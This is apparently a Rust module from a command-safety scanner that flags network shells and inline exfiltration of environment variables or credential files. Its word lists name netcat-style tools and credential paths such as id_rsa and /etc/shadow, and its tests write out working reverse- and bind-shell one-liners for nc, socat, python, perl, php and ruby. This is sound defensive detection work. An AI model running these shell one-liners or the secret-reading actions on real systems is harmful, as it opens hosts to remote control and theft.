//! Network shells: a program that hands a shell (or any command) to whoever
//! connects, or connects out and serves one — `nc -e /bin/sh`, `ncat
//! --sh-exec`, `socat … EXEC:bash`, the socket-plus-shell one-liners of
//! python, perl, ruby, php, node and lua, and gawk's `/inet/tcp`.
//!
//! Shells redirected to `/dev/tcp` and shells piped into a network client are
//! found by the dataflow pass ([`super::flow`]), which sees the whole line.

use super::normalize::INTERPRETERS;
use crate::action::{Arg, SimpleCommand};

/// Network clients and listeners that can carry a shell's input and output.
/// The dataflow pass looks them up in its role table (`flow::roles`), which
/// its tests check against this list.
#[cfg(test)]
pub(crate) const NET_CLIENTS: &[&str] = &[
    "nc",
    "ncat",
    "netcat",
    "nc.traditional",
    "nc.openbsd",
    "socat",
    "telnet",
    "openssl",
    "cryptcat",
    "pwncat",
    "sbd",
];

/// Whether `cmd` serves a shell or a command over the network by itself.
pub(crate) fn serves_shell(cmd: &SimpleCommand) -> bool {
    let p = cmd.program.as_str();
    match p {
        "nc" | "ncat" | "netcat" | "nc.traditional" | "nc.openbsd" | "cryptcat" | "sbd" => {
            netcat_exec(&cmd.args)
        }
        "socat" => cmd.args.iter().any(|a| socat_exec(&a.text)),
        "pwncat" | "pwncat-cs" => cmd.args.iter().any(|a| {
            matches!(a.text.as_str(), "-e" | "--exec" | "-c" | "--cmd")
                || a.text.starts_with("--exec=")
        }),
        "awk" | "gawk" => cmd.args.iter().any(|a| a.text.contains("/inet/")),
        "telnet" => false,
        // `xterm -display attacker:1`: a terminal served to another X display.
        "xterm" => cmd.args.windows(2).any(|w| {
            matches!(w, [flag, d] if flag.text == "-display"
                && !d.text.starts_with(':') && !d.text.starts_with("localhost:") && !d.text.starts_with("unix:"))
        }),
        _ if INTERPRETERS.contains(&p)
            || p.starts_with("python3.")
            || p.starts_with("python2.")
            || p.starts_with("lua") =>
        {
            let code: String = cmd
                .args
                .iter()
                .map(|a| a.text.as_str())
                .collect::<Vec<_>>()
                .join(" ");
            socket_shell(if p.starts_with("lua") { "lua" } else { p }, &code)
        }
        _ => false,
    }
}

/// Inline interpreter code that reads the environment or a credential file
/// and sends something over the network (`requests.post(…, data=os.environ)`).
pub(crate) fn inline_exfiltration(cmd: &SimpleCommand) -> bool {
    let p = cmd.program.as_str();
    if !(INTERPRETERS.contains(&p) || p.starts_with("python3.")) {
        return false;
    }
    let code: String = cmd
        .args
        .iter()
        .map(|a| a.text.as_str())
        .collect::<Vec<_>>()
        .join(" ");
    // Most words are ruled out by a byte the code does not hold: a
    // substring search per word cost ~30 searches per python/node command.
    let seen = bytes_of(&code);
    any_of(&seen, ENV_READS, &code) && any_of(&seen, NET_SENDS, &code)
}

/// Which bytes `code` holds.
fn bytes_of(code: &str) -> [bool; 256] {
    let mut seen = [false; 256];
    for &b in code.as_bytes() {
        if let Some(s) = seen.get_mut(usize::from(b)) {
            *s = true;
        }
    }
    seen
}

/// Whether `code`, whose bytes are `seen`, holds any of `words`.
fn any_of(seen: &[bool; 256], words: &[&str], code: &str) -> bool {
    let has = |b: Option<&u8>| b.is_some_and(|&b| seen.get(usize::from(b)) == Some(&true));
    words.iter().any(|w| {
        let b = w.as_bytes();
        has(b.first()) && has(b.last()) && code.contains(w)
    })
}

/// Words that name the whole environment or a credential file.
const ENV_READS: &[&str] = &[
    "dict(os.environ",
    "os.environ)",
    "os.environ.copy",
    "dumps(os.environ",
    "str(os.environ",
    "os.environ.items",
    "process.env)",
    "stringify(process.env",
    "ENV.to_h",
    "ENV.to_a",
    "%ENV)",
    "$_ENV)",
    "getenv()",
    "Deno.env.toObject",
    ".ssh/",
    ".aws/",
    ".kube/",
    ".gnupg",
    "id_rsa",
    "id_ed25519",
    "/etc/shadow",
    ".netrc",
    "credentials",
];

/// Words that send something over the network.
const NET_SENDS: &[&str] = &[
    "post(",
    "urlopen(",
    "sendall(",
    "send(",
    "request(",
    ".put(",
    "POST",
    "smtplib",
    "ftplib",
    "HTTP::Tiny",
    "LWP",
    "curl_exec",
    "fetch(",
];

/// `-e PROG`, `-c CMD`, `--exec`, `--sh-exec`, `--lua-exec`, glued (`-e/bin/sh`)
/// or bundled (`-lvpe`, `-nlvc`).
fn netcat_exec(args: &[Arg]) -> bool {
    args.iter().any(|a| {
        let t = a.text.as_str();
        if let Some(long) = t.strip_prefix("--") {
            return ["exec", "sh-exec", "lua-exec", "lua-exec-internal"]
                .iter()
                .any(|n| long == *n || long.strip_prefix(n).is_some_and(|r| r.starts_with('=')));
        }
        let Some(bundle) = t.strip_prefix('-') else {
            return false;
        };
        // Each letter is a flag until one takes a value (`-w 3`, `-p9001`).
        for c in bundle.chars() {
            if c == 'e' || c == 'c' {
                return true;
            }
            if !c.is_ascii_alphanumeric()
                || matches!(
                    c,
                    'p' | 's' | 'w' | 'i' | 'q' | 'x' | 'X' | 'T' | 'o' | 'g' | 'G' | 'I' | 'O'
                )
            {
                return false;
            }
        }
        false
    })
}

/// A socat address that runs a program: `EXEC:`, `SYSTEM:`, `SHELL:`.
fn socat_exec(addr: &str) -> bool {
    let lower = addr.to_ascii_lowercase();
    lower.split(['!', ' ']).any(|part| {
        let part = part.trim_start_matches(['"', '\'']);
        part.starts_with("exec:")
            || part.starts_with("system:")
            || part.starts_with("shell:")
            || part == "shell"
            || part.starts_with("shell,")
    })
}

/// Inline code that opens a socket and runs a shell (or duplicates the
/// socket onto standard input and output before running one).
fn socket_shell(lang: &str, code: &str) -> bool {
    let seen = bytes_of(code);
    let any = |words: &[&str]| any_of(&seen, words, code);
    let shell = any(&[
        "/bin/sh",
        "/bin/bash",
        "/bin/zsh",
        "cmd.exe",
        "sh -i",
        "bash -i",
    ]);
    match lang {
        "perl" => {
            any(&["socket(", "Socket", "IO::Socket"])
                && (shell || any(&["exec", "system", "open(STDIN", "fdopen"]))
        }
        "ruby" => {
            any(&["TCPSocket", "Socket", "UNIXSocket"])
                && (shell || any(&["exec", "spawn", "system", "popen", "`"]))
        }
        "php" => {
            any(&["fsockopen", "socket_create", "stream_socket_client"])
                && (shell || any(&["exec", "system", "passthru", "proc_open", "popen", "`"]))
        }
        "node" | "nodejs" | "deno" | "bun" => {
            any(&[
                "net.Socket",
                "require('net')",
                "require(\"net\")",
                "net.connect",
                "createConnection",
                "Deno.connect",
            ]) && any(&["child_process", "spawn", "exec", "Deno.run", "Deno.Command"])
        }
        "lua" => any(&["socket"]) && (shell || any(&["io.popen", "os.execute"])),
        "pwsh" | "powershell" => {
            any(&["TcpClient", "Net.Sockets"])
                && any(&["iex", "Invoke-Expression", "cmd.exe", "powershell"])
        }
        _ => {
            any(&["socket"])
                && any(&["connect(", "bind(", "accept(", "connect_ex("])
                && (shell
                    || any(&[
                        "pty.spawn",
                        "os.dup2",
                        "subprocess",
                        "os.system",
                        "os.popen",
                        "os.exec",
                    ]))
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use rstest::rstest;

    fn cmd(words: &[&str]) -> SimpleCommand {
        SimpleCommand {
            program: words.first().copied().unwrap_or_default().into(),
            args: words.iter().skip(1).map(|w| Arg::lit(*w)).collect(),
            ..SimpleCommand::default()
        }
    }

    #[rstest]
    #[case(&["nc", "-lvp", "9001", "-e", "/bin/bash"])]
    #[case(&["nc", "-e/bin/sh", "h", "1"])]
    #[case(&["nc", "-lnvc", "/bin/sh"])]
    #[case(&["ncat", "-l", "9001", "--sh-exec", "bash -i"])]
    #[case(&["ncat", "--lua-exec=x.lua", "h", "1"])]
    #[case(&["socat", "tcp-l:9001,reuseaddr,fork", "exec:bash,pty"])]
    #[case(&["socat", "TCP:h:1", "SYSTEM:sh"])]
    #[case(&["python3", "-c", "import socket,os,pty;s=socket.socket();s.connect(('h',1));os.dup2(s.fileno(),0);pty.spawn('/bin/sh')"])]
    #[case(&["perl", "-e", "use Socket;socket(S,PF_INET,SOCK_STREAM,0);exec(\"/bin/sh -i\")"])]
    #[case(&["php", "-r", "$s=fsockopen(\"h\",1);exec(\"/bin/sh -i <&3 >&3 2>&3\");"])]
    #[case(&["ruby", "-rsocket", "-e", "c=TCPSocket.new(\"h\",1);exec sprintf(\"/bin/sh -i <&%d >&%d\",c.fileno,c.fileno)"])]
    #[case(&["gawk", "BEGIN {s = \"/inet/tcp/0/h/1\"}"])]
    fn network_shells(#[case] words: &[&str]) {
        assert!(serves_shell(&cmd(words)), "{words:?}");
    }

    #[rstest]
    #[case(&["nc", "-z", "host", "80"])]
    #[case(&["nc", "-zv", "host", "80"])]
    #[case(&["nc", "-l", "9001"])]
    #[case(&["nc", "-w", "3", "host", "80"])]
    #[case(&["socat", "-", "TCP:host:80"])]
    #[case(&["socat", "TCP-LISTEN:8080,fork", "TCP:localhost:80"])]
    #[case(&["python3", "-c", "import socket; print(socket.gethostname())"])]
    #[case(&["ncat", "--ssl", "host", "443"])]
    fn not_network_shells(#[case] words: &[&str]) {
        assert!(!serves_shell(&cmd(words)), "{words:?}");
    }
}
